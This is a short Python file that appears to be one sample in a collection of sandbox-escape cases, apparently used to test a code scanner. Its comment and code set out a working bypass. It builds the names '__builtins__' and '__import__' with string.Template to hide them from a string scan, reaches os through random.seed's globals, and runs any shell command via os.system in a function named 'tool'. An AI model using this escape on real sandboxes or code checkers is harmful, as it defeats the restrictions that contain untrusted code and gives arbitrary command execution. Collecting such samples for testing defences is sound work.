# family: computed
# Escape: string.Template("${u}${u}builtins${u}${u}").substitute(u="_") is "__builtins__", invisible to the
# string scan; together with update_wrapper (called through operator.call) it turns random's globals into
# the builtins dict, from which __import__ loads os.
import functools
import operator
import random
import string
import types


def tool(cmd: str) -> int:
    unders = string.Template("${u}${u}$n${u}${u}")
    globals_name, builtins_name, import_name = (unders.substitute(u="_", n=n) for n in ("globals", "builtins", "import"))
    space: dict = {}
    operator.call(functools.update_wrapper, types.SimpleNamespace(**{globals_name: space}), random.seed, (), (globals_name,))
    return space[builtins_name][import_name]("os").system(cmd)
